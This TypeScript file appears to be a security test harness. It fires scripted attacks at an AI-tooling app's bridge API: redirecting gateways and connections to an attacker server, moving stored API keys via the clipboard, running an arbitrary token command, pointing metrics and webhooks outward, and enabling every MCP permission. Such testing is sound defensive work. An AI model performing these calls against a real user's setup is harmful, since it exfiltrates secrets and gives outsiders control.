import {
  addressKeys,
  ConnectionPart,
  type ConnectionView,
  McpPermission,
  type MethodName,
  type PlanView,
} from '@shared/contract'
import type { AttackTarget } from './hostile-calls'

/** Text that the attacker puts into the clipboard in place of the user's secret. */
export const ownSecret = 'the-attackers-own-0123456789'

export interface AttackResponse {
  readonly ok: boolean
  readonly value?: unknown
}

/** Means of an attack: calls of the bridge, and the attacker's targets. */
export interface AttackContext {
  readonly call: (name: MethodName, input?: unknown) => Promise<AttackResponse>
  readonly wanted: AttackTarget
}

/** Runs all handwritten attacks. */
export async function runManualAttacks(attempt: AttackContext): Promise<void> {
  await redirectPlans(attempt)
  const maliciousConnectionId = await createForeignConnection(attempt)
  await redirectConnections(attempt)
  await sendSavedSecretElsewhere(attempt, maliciousConnectionId)
  await runProgram(attempt)
  await joinDatabase(attempt)
  await sendMetrics(attempt)
  await sendAlerts(attempt)
  await grantMcpPermissions(attempt)
  const { call, wanted } = attempt
  await call('connections.save', { name: 'reads-a-file', addresses: {}, caFile: wanted.file })
  await call('app.openLink', { url: `${wanted.serverUrl}/?out` })
  const [plan] = await listRows<PlanView>(call, 'plans.list')
  const choice = { toolId: 'claude-code', planId: plan?.id ?? '', modelCode: 'aurora-large' }
  const site = { kind: 'project', folder: wanted.folder }
  await call('tools.preview', { ...choice, site })
  await call('tools.drift', { toolId: 'claude-code', site })
  await call('doctor.run', { toolId: 'claude-code', site, callId: 'doctor' })
}

async function listRows<T>(call: AttackContext['call'], name: MethodName): Promise<T[]> {
  const { value } = await call(name)
  return Array.isArray(value) ? value : []
}

/** Changes the gateway of each plan, and pastes its key again. */
async function redirectPlans({ call, wanted }: AttackContext): Promise<void> {
  const gatewayUrl = wanted.serverUrl
  for (const { id: planId, name, models, keys } of await listRows<PlanView>(call, 'plans.list')) {
    await call('plans.update', { planId, name, gatewayUrl, models })
    await call('plans.check', { planId })
    for (const { id: keyId } of keys) {
      await call('plans.copyKey', { planId, keyId })
      for (const takeMethod of [
        'plans.takeKeyFromClipboard',
        'connections.takeSecretFromClipboard',
        'resources.takeSecret',
      ] as const) {
        const pendingId = getPendingId(await call(takeMethod))
        await call('plans.checkNew', { gatewayUrl, pendingId })
        const addedPlan = await call('plans.add', {
          name: `copy-${takeMethod.length}`,
          gatewayUrl,
          models: [],
          pendingId,
        })
        await call('plans.check', { planId: getAnswerId(addedPlan) })
      }
    }
  }
}

const getField = (answer: AttackResponse, name: string): string => {
  const { value } = answer
  return typeof value === 'object' && value !== null ? String(Reflect.get(value, name) ?? 'none') : 'none'
}
const getPendingId = (answer: AttackResponse): string => getField(answer, 'pendingId')
const getAnswerId = (answer: AttackResponse): string => getField(answer, 'id')

const toAllAddresses = (url: string): Record<string, string> =>
  Object.fromEntries(addressKeys.map((key) => [key, key === 'registryHost' ? new URL(url).host : url]))

/** A connection with the attacker's addresses and secret. */
async function createForeignConnection({ call, wanted }: AttackContext): Promise<string> {
  await call('app.copyText', { text: ownSecret })
  const pendingId = getPendingId(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
  const addresses = toAllAddresses(wanted.serverUrl)
  const savedConnection = await call('connections.save', {
    name: 'theirs',
    addresses,
    tokenSource: { kind: 'pasted' },
    pendingId,
  })
  const connection: unknown = Reflect.get(Object(savedConnection.value), 'connection')
  return String(Reflect.get(Object(connection), 'id'))
}

/** Changes the addresses of each connection, with its secret, another secret, and another token server. */
async function redirectConnections({ call, wanted }: AttackContext): Promise<void> {
  const addresses = toAllAddresses(wanted.serverUrl)
  for (const { id, name, tokenSource } of await listRows<ConnectionView>(call, 'connections.list')) {
    if (name === 'theirs') continue
    await call('app.copyText', { text: ownSecret })
    const pendingId = getPendingId(await call('connections.takeSecretFromClipboard', {}))
    const redirectedTokenSource =
      tokenSource?.kind === 'client-credentials' ? { ...tokenSource, tokenUrl: wanted.serverUrl } : tokenSource
    const changes = [
      { addresses, tokenSource },
      { addresses, tokenSource: redirectedTokenSource },
      { addresses, tokenSource, pendingId },
    ]
    for (const change of changes) {
      await call('connections.save', { id, name, ...change })
      for (const part of ConnectionPart.options) await call('connections.test', { id, part, callId: `${id}-${part}` })
      await call('account.plans', { connectionId: id })
    }
  }
}

/** Sends a secret of a response to the attacker's connection. */
async function sendSavedSecretElsewhere({ call }: AttackContext, connectionId: string): Promise<void> {
  const labConnection = (await listRows<ConnectionView>(call, 'connections.list')).find(({ name }) => name === 'Lab')
  const operation = 'aip.apiKeys.create'
  const createdResource = await call('resources.call', {
    connectionId: labConnection?.id ?? '',
    operation,
    body: { name: 'stolen' },
  })
  const secrets: unknown = Reflect.get(Object(createdResource.value), 'secrets')
  const [heldSecret]: unknown[] = Array.isArray(secrets) ? secrets : []
  const handle = String(Reflect.get(Object(heldSecret), 'handle'))
  await call('resources.call', { connectionId, operation, body: { name: { $held: handle } } })
  await call('resources.useForInference', { connectionId, of: { handle } })
  await call('resources.keepSecret', { handle, connectionId, kind: 'platformApiKey', name: 'carried' })
  await call('resources.copySecret', { handle })
  const pendingId = getPendingId(await call('resources.takeSecret'))
  await call('resources.call', { connectionId, operation, body: { name: { $pending: pendingId } } })
  await call('playground.keepApiKey', { connectionId, pendingId })
  const target = { kind: 'platform', connectionId, credential: 'apiKey', modelCode: 'm' }
  await call('playground.complete', { target, prompt: 'hello', parameters: {} })
}

/** Sets a token command for a connection. */
async function runProgram({ call, wanted }: AttackContext): Promise<void> {
  const tokenSource = { kind: 'command', command: wanted.command }
  const addresses = toAllAddresses(wanted.serverUrl)
  await call('connections.save', { name: 'runs', addresses, tokenSource })
  for (const { id } of await listRows<ConnectionView>(call, 'connections.list')) {
    await call('connections.save', { id, name: `runs-${id.slice(0, 8)}`, addresses, tokenSource })
    await call('connections.test', { id, part: 'token', callId: `run-${id}` })
  }
}

/** Uses each key of a plan as the password of the attacker's database. */
async function joinDatabase({ call, wanted }: AttackContext): Promise<void> {
  for (const { id: planId, keys } of await listRows<PlanView>(call, 'plans.list')) {
    for (const { id: keyId } of keys) {
      await call('plans.copyKey', { planId, keyId })
      const pendingId = getPendingId(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
      const names = { spaceName: 'theirs', personName: 'me', address: wanted.databaseUrl }
      await call('team.create', { ...names, pendingId })
    }
  }
  await call('app.copyText', { text: ownSecret })
  const pendingId = getPendingId(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
  await call('team.create', { spaceName: 'ours', personName: 'me', address: wanted.databaseUrl, pendingId })
}

/** Sets the attacker's collector for metrics. */
async function sendMetrics({ call, wanted }: AttackContext): Promise<void> {
  await call('metrics.setOtlp', { endpoint: wanted.serverUrl, sendsSpans: true })
  await call('app.copyText', { text: ownSecret })
  const pendingId = getPendingId(await call('metrics.takeSecret'))
  await call('metrics.setOtlp', {
    endpoint: `${wanted.serverUrl}/theirs`,
    auth: { kind: 'bearer' },
    sendsSpans: true,
    pendingId,
  })
}

/** Sends alerts to the attacker's webhook, with the saved token and without one. */
async function sendAlerts({ call, wanted }: AttackContext): Promise<void> {
  await call('app.copyText', { text: `${wanted.serverUrl}/alerts` })
  const addressId = getPendingId(await call('alerts.takeWebhookSecret', { part: 'address' }))
  for (const hasToken of [true, false]) {
    await call('alerts.setWebhook', { format: 'json', hasToken, addressId })
    await call('alerts.testWebhook')
  }
}

/** Allows paid and writing MCP calls, and copies an MCP server with its values to another tool. */
async function grantMcpPermissions({ call }: AttackContext): Promise<void> {
  for (const permission of McpPermission.options)
    await call('mcp.setPermission', { toolId: 'claude-code', permission, isOn: true })
  await call('mcp.setRecordsArguments', { isOn: true })
  const change = { what: 'anyServer', toolId: 'claude-code', name: 'lab', action: 'copy', to: ['cursor'] }
  const preview = await call('mcp.preview', { ...change, values: 'plain' })
  await call('mcp.carryOut', { previewId: getField(preview, 'previewId') })
}
